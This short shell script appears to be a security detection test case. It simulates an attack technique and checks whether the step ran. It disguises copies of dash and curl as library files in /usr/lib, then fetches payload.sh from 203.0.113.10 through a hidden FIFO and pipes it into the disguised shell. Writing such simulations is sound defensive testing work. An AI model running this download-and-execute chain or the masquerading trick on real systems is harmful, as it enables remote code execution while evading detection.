#!/bin/sh
. /opt/case/case.sh

d=/usr/lib/x86_64-linux-gnu
cp /bin/dash $d/libnss-cache.so.2; cp /usr/bin/curl $d/libidn-cache.so.1
mkfifo /run/.q
$d/libidn-cache.so.1 -s -o /run/.q http://203.0.113.10/payload.sh &
$d/libnss-cache.so.2 </run/.q
test -e /tmp/reached
took_place
